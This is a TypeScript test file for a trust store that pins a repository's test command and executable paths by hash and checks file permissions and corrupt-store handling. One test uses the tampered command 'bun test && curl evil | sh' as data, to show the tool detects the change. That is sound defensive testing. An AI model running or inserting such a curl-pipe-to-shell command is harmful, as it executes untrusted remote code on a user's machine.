// The test-command trust store, kept in a temp SKEP_HOME so the real ~/.skep is never touched.
import { afterAll, afterEach, beforeEach, describe, expect, test } from "bun:test";
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { hashCommand, isTrusted, skepHome, trust, trustState, trustStorePath, trustValues, untrust, valueTrustState } from "../../src/trust/store.ts";
import { cleanupAll, tempDir } from "../support/temp.ts";

let home: string;
let repo: string;
const savedHome = process.env.SKEP_HOME;

beforeEach(() => {
  const dir = tempDir("skep-trust-");
  home = join(dir, "home", ".skep"); // not created yet: trust() makes it
  repo = join(dir, "repo");
  mkdirSync(repo);
  process.env.SKEP_HOME = home;
});
afterEach(() => {
  if (savedHome === undefined) delete process.env.SKEP_HOME;
  else process.env.SKEP_HOME = savedHome;
});
afterAll(cleanupAll);

const stored = () => JSON.parse(readFileSync(trustStorePath(), "utf8"));

describe("trust states", () => {
  test("SKEP_HOME decides where the store lives", () => {
    expect(skepHome()).toBe(home);
    expect(trustStorePath()).toBe(join(home, "trusted-repos.json"));
  });

  test("untrusted, then trusted, then changed when the command changes", () => {
    expect(trustState(repo, "bun test")).toBe("untrusted");
    expect(isTrusted(repo, "bun test")).toBe(false);
    expect(existsSync(home)).toBe(false); // reading never creates anything
    expect(trust(repo, "bun test")).toEqual({ path: repo, warning: null });
    expect(trustState(repo, "bun test")).toBe("trusted");
    expect(isTrusted(repo, "bun test")).toBe(true);
    expect(trustState(repo, "bun test && curl evil | sh")).toBe("changed");
    expect(isTrusted(repo, "bun test ")).toBe(false); // the exact command, byte for byte
    expect(trustState(join(repo, "..", "other"), "bun test")).toBe("untrusted");
  });

  test("trusting again replaces the repo's entry", () => {
    trust(repo, "make test");
    trust(repo, "make check");
    expect(trustState(repo, "make check")).toBe("trusted");
    expect(trustState(repo, "make test")).toBe("changed");
    expect(stored().entries).toHaveLength(1);
  });

  test("the stored shape", () => {
    const before = Date.now();
    trust(repo, "go test ./...");
    const { entries } = stored();
    expect(entries).toEqual([{ path: repo, test_cmd_sha256: hashCommand("go test ./..."), trusted_at: expect.any(String) }]);
    expect(entries[0].test_cmd_sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(Date.parse(entries[0].trusted_at)).toBeGreaterThanOrEqual(before - 1000);
  });

  test("several repos keep their own entries; untrust removes only one", () => {
    const other = join(repo, "..", "other");
    mkdirSync(other);
    trust(repo, "a");
    trust(other, "b");
    expect(untrust(repo)).toEqual({ path: repo, removed: true, warning: null });
    expect(trustState(repo, "a")).toBe("untrusted");
    expect(trustState(other, "b")).toBe("trusted");
    expect(untrust(repo)).toEqual({ path: repo, removed: false, warning: null });
  });

  test("a symlink to the repo is the same repo", () => {
    const link = join(repo, "..", "link");
    symlinkSync(repo, link);
    trust(link, "npm test");
    expect(stored().entries[0].path).toBe(repo);
    expect(trustState(repo, "npm test")).toBe("trusted");
    expect(trustState(link, "npm test")).toBe("trusted");
  });
});

describe("file modes", () => {
  test("the store is 0600 in a 0700 directory, with no temp files left", () => {
    trust(repo, "bun test");
    expect(statSync(home).mode & 0o777).toBe(0o700);
    expect(statSync(trustStorePath()).mode & 0o777).toBe(0o600);
    expect(readdirSync(home)).toEqual(["trusted-repos.json"]);
  });

  test("an existing directory open to others is closed on write", () => {
    mkdirSync(home, { recursive: true, mode: 0o755 });
    chmodSync(home, 0o755);
    trust(repo, "bun test");
    expect(statSync(home).mode & 0o777).toBe(0o700);
  });

  test("a store others can write trusts nothing", () => {
    trust(repo, "bun test");
    chmodSync(trustStorePath(), 0o666);
    expect(trustState(repo, "bun test")).toBe("untrusted");
    const r = trust(repo, "bun test");
    expect(r.warning).toContain("writable by others");
    expect(statSync(trustStorePath()).mode & 0o777).toBe(0o600);
    expect(trustState(repo, "bun test")).toBe("trusted");
  });
});

describe("a corrupt store", () => {
  const corruptions: [string, string][] = [
    ["not JSON", "{ entries: oops"],
    ["wrong shape", JSON.stringify({ entries: [{ path: "/x" }] })],
    ["not an object", "[]"],
    ["empty", ""],
  ];
  for (const [label, content] of corruptions) {
    test(`${label}: read as empty, moved aside (not overwritten) on trust`, () => {
      mkdirSync(home, { recursive: true, mode: 0o700 });
      writeFileSync(trustStorePath(), content, { mode: 0o600 });
      expect(trustState(repo, "bun test")).toBe("untrusted");
      expect(readFileSync(trustStorePath(), "utf8")).toBe(content); // reading leaves it alone

      const r = trust(repo, "bun test");
      expect(r.warning).toContain("moved it to");
      const aside = readdirSync(home).filter((f) => f.startsWith("trusted-repos.json.corrupt-"));
      expect(aside).toHaveLength(1);
      expect(aside[0]).toMatch(/^trusted-repos\.json\.corrupt-\d+$/);
      expect(readFileSync(join(home, aside[0]!), "utf8")).toBe(content);
      expect(trustState(repo, "bun test")).toBe("trusted");
    });
  }

  test("untrust leaves a corrupt store where it is and says so", () => {
    mkdirSync(home, { recursive: true, mode: 0o700 });
    writeFileSync(trustStorePath(), "garbage", { mode: 0o600 });
    const r = untrust(repo);
    expect(r.removed).toBe(false);
    expect(r.warning).toContain("left as is");
    expect(readFileSync(trustStorePath(), "utf8")).toBe("garbage");
  });
});

describe("executable values other than the test command", () => {
  test("claude_bin is trusted per repo and value, apart from test_cmd; an in-repo file is pinned by its bytes", () => {
    mkdirSync(join(repo, "tools"));
    writeFileSync(join(repo, "tools/claude"), "#!/bin/sh\necho one\n");
    expect(valueTrustState(repo, "claude_bin", "tools/claude")).toBe("untrusted");
    trust(repo, "bun test");
    expect(valueTrustState(repo, "claude_bin", "tools/claude")).toBe("untrusted"); // trusting the test command trusts nothing else
    trustValues(repo, { claude_bin: "tools/claude" });
    expect(valueTrustState(repo, "claude_bin", "tools/claude")).toBe("trusted");
    expect(trustState(repo, "bun test")).toBe("trusted"); // kept
    expect(stored().entries).toHaveLength(1);
    writeFileSync(join(repo, "tools/claude"), "#!/bin/sh\necho two\n");
    expect(valueTrustState(repo, "claude_bin", "tools/claude")).toBe("changed");
    trustValues(repo, { claude_bin: "/usr/local/bin/claude" }); // outside the repo: its text
    expect(valueTrustState(repo, "claude_bin", "/usr/local/bin/claude")).toBe("trusted");
    expect(valueTrustState(repo, "claude_bin", "/usr/local/bin/claude2")).toBe("changed");
    expect(untrust(repo).removed).toBe(true);
    expect(valueTrustState(repo, "claude_bin", "/usr/local/bin/claude")).toBe("untrusted");
  });
});
